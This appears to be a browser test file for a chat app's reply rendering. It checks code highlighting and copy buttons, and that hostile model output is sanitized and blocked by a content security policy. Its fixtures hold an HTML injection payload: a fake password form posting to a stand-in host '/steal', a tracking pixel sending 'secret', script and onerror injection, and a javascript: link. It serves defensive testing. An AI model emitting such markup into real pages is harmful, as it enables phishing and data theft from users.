"""Reading replies (issue 10, items 3 and 4; issue 9, item 9): code in colour with a
Copy button, any message copied as Markdown, and model output that cannot restyle
or cover the page, ask for a password, or reach another host; in light and dark,
at desktop and phone sizes."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.pages import LOOKS, add_user, log_in, reply, send, shot, use_look, wait_until

CODE_REPLY = (
    "Two ways:\n\n```python\ndef add(a, b):\n    # the sum\n    return a + b\n```\n\n"
    "and without a label:\n\n```\nfunction add(a, b) {\n  const total = a + b;\n  return total;\n}\nconsole.log(add(1, 2));\n```\n\n"
    "Use `add(1, 2)`; it returns **3**."
)
ELSEWHERE = "http://203.0.113.9"  # TEST-NET-3: must never be contacted
HOSTILE_REPLY = f"""Here you go.

<style>body, html {{ background: red !important; }} #composer {{ display: none !important; }}</style>

<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Page covered</div>

<form action="{ELSEWHERE}/steal" method="post"><p>Session expired. Log in again:</p>
<input name="user"><input type="password" name="password"><button>Log in</button></form>

![tracking pixel]({ELSEWHERE}/pixel.png?data=secret)

<img src="{ELSEWHERE}/beacon.png" onerror="window.__hacked = 1">
<iframe src="{ELSEWHERE}/frame"></iframe>
<svg><script>window.__hacked = 2</script></svg>
<link rel="stylesheet" href="{ELSEWHERE}/x.css"><meta http-equiv="refresh" content="0;url={ELSEWHERE}">
<p class="drawer-backdrop jump-latest" id="composer">class and id borrowed from the page</p>

[a harmless link](https://example.org/docs) and [a script link](javascript:window.__hacked=3)
"""


def grant_clipboard(page: Page, server) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url)


def clipboard(page: Page) -> str:
    return page.evaluate("() => navigator.clipboard.readText()")


@pytest.mark.parametrize("name, scheme, viewport", LOOKS, ids=[look[0] for look in LOOKS])
def test_code_is_coloured_and_copies_and_a_message_copies_as_markdown(server, page, fake_ollama, name, scheme, viewport):
    add_user(server, "alice", "pro")
    log_in(page, server, "alice")
    grant_clipboard(page, server)
    use_look(page, scheme, viewport)
    fake_ollama.reply = CODE_REPLY
    send(page, "add two numbers")
    answer = reply(page)
    expect(answer).to_have_attribute("aria-busy", "false")

    blocks = answer.locator(".code-block")
    expect(blocks).to_have_count(2)
    expect(blocks.nth(0).locator(".code-lang")).to_have_text("python")
    expect(blocks.nth(0).locator(".hljs-keyword").first).to_have_text("def")
    expect(blocks.nth(0).locator(".hljs-comment")).to_have_text("# the sum")
    expect(blocks.nth(1).locator(".code-lang")).to_have_text("javascript")  # guessed once the reply was done
    expect(blocks.nth(1).locator(".hljs-keyword").first).to_have_text("function")
    keyword = blocks.nth(0).locator(".hljs-keyword").first.evaluate("(n) => getComputedStyle(n).color")
    assert keyword == "rgb(255, 123, 114)"  # GitHub Dark's keyword colour on the dark code background

    copy = blocks.nth(0).get_by_role("button", name="Copy the python code")
    copy.click()
    expect(copy).to_have_text("Copied")
    assert clipboard(page) == "def add(a, b):\n    # the sum\n    return a + b\n"
    shot(page, f"30-code-{name}")

    answer.get_by_role("button", name="Copy the reply as Markdown").click()
    assert clipboard(page) == CODE_REPLY
    page.locator("#messages article.msg-user").get_by_role("button", name="Copy your message as Markdown").click()
    assert clipboard(page) == "add two numbers"
    expect(page.locator("#status")).to_have_text("Copied to the clipboard.")


@pytest.mark.parametrize("name, scheme, viewport", LOOKS, ids=[look[0] for look in LOOKS])
def test_a_hostile_reply_cannot_restyle_cover_phish_or_phone_home(server, new_page, fake_ollama, name, scheme, viewport):
    page = new_page()
    add_user(server, "alice", "pro")
    log_in(page, server, "alice")
    use_look(page, scheme, viewport)
    hosts = set()
    page.on("request", lambda request: hosts.add(urlsplit(request.url).netloc))
    page.on("dialog", lambda dialog: pytest.fail(f"a reply opened a dialog: {dialog.message}"))
    before = page.evaluate("() => getComputedStyle(document.documentElement).backgroundColor")

    fake_ollama.reply = HOSTILE_REPLY
    send(page, "show me something")
    answer = reply(page)
    expect(answer).to_have_attribute("aria-busy", "false")
    body = answer.locator(".msg-body")
    expect(body).to_contain_text("<style>body, html")  # the raw HTML is shown as text, never run
    expect(body).to_contain_text("Page covered")
    for tag in ("style", "form", "input", "button", "img", "iframe", "svg", "script", "link", "meta", "div", "[style]", "[id]"):
        expect(body.locator(tag)).to_have_count(0)
    expect(body.get_by_role("link", name="a harmless link")).to_have_attribute("rel", "noopener noreferrer")
    expect(body.get_by_role("link", name="[image: tracking pixel]")).to_be_visible()  # a link, not a load
    expect(body.locator("a", has_text="a script link")).not_to_have_attribute("href", "javascript:window.__hacked=3")

    assert page.evaluate("() => getComputedStyle(document.documentElement).backgroundColor") == before
    assert page.evaluate("() => window.__hacked") is None
    send_button = page.get_by_role("button", name="Send")
    expect(send_button).to_be_visible()
    assert send_button.evaluate("(b) => { const r = b.getBoundingClientRect();"
                                " return document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2) === b; }")
    send(page, "still here")  # the page still works
    expect(reply(page).locator(".msg-body")).to_contain_text("Here you go.")
    assert hosts == {urlsplit(server.url).netloc}, hosts
    shot(page, f"31-hostile-reply-{name}")


def test_the_sanitizer_alone_keeps_only_its_allowlist(server, new_page):
    page = new_page()
    add_user(server, "alice", "pro")
    log_in(page, server, "alice")
    cleaned = page.evaluate(
        """async (elsewhere) => {
            const { sanitize } = await import("/markdown.js");
            return sanitize(`<p style="position:fixed" class="x" id="y" onclick="alert(1)">text</p>
                <style>*{}</style><form action="${elsewhere}"><input type="password"><button>go</button></form>
                <img src="${elsewhere}/i.png"><iframe src="${elsewhere}"></iframe><svg><a href="x">s</a></svg>
                <a href="${elsewhere}/ok" title="t" style="x">link</a><a href="javascript:alert(1)">js</a>
                <code class="language-python hljs-evil">c</code><code class="drawer-backdrop">d</code>
                <table><tr><td align="center" colspan="9">cell</td></tr></table><ol start="3"><li>three</li></ol>`);
        }""",
        ELSEWHERE,
    )
    for banned in ("style", "class=\"x\"", "id=", "onclick", "<form", "<input", "<button", "<img", "<iframe", "<svg",
                   "javascript:", "colspan", "drawer-backdrop"):
        assert banned not in cleaned, (banned, cleaned)
    for kept in ("<p>text</p>", f'<a href="{ELSEWHERE}/ok" title="t" target="_blank" rel="noopener noreferrer">link</a>',
                 '<td align="center">cell</td>', '<ol start="3">'):
        assert kept in cleaned, (kept, cleaned)
    new_page.blocked.clear()  # parsing the style and onclick attributes made the policy speak up: expected


def test_the_content_security_policy_holds_in_the_browser(server, new_page):
    page = new_page()
    add_user(server, "alice", "pro")
    log_in(page, server, "alice")
    failed = {}
    page.on("requestfailed", lambda request: failed.setdefault(urlsplit(request.url).netloc, request.failure))
    answered = set()
    page.on("response", lambda response: answered.add(urlsplit(response.url).netloc))
    # Even markup that skipped the sanitizer could neither style, run nor load.
    result = page.evaluate(
        """async (elsewhere) => {
            const box = document.createElement("div");
            box.innerHTML = `<div id="probe" style="position:fixed;top:0">x</div><img src="${elsewhere}/csp.png">`;
            document.body.append(box);
            const script = document.createElement("script");
            script.textContent = "window.__inline = 1";
            document.body.append(script);
            await new Promise((resolve) => setTimeout(resolve, 0));
            return [getComputedStyle(document.getElementById("probe")).position, window.__inline ?? null];
        }""",
        ELSEWHERE,
    )
    assert result == ["static", None]
    expect(page.locator("#activeModelDisplay")).to_contain_text("Currently using:")
    wait_until(lambda: urlsplit(ELSEWHERE).netloc in failed, "the image request to fail")
    assert failed[urlsplit(ELSEWHERE).netloc] == "csp"  # blocked by the policy before it left
    assert urlsplit(ELSEWHERE).netloc not in answered
    assert new_page.blocked, "the policy reported nothing it blocked"
    new_page.blocked.clear()  # provoked on purpose
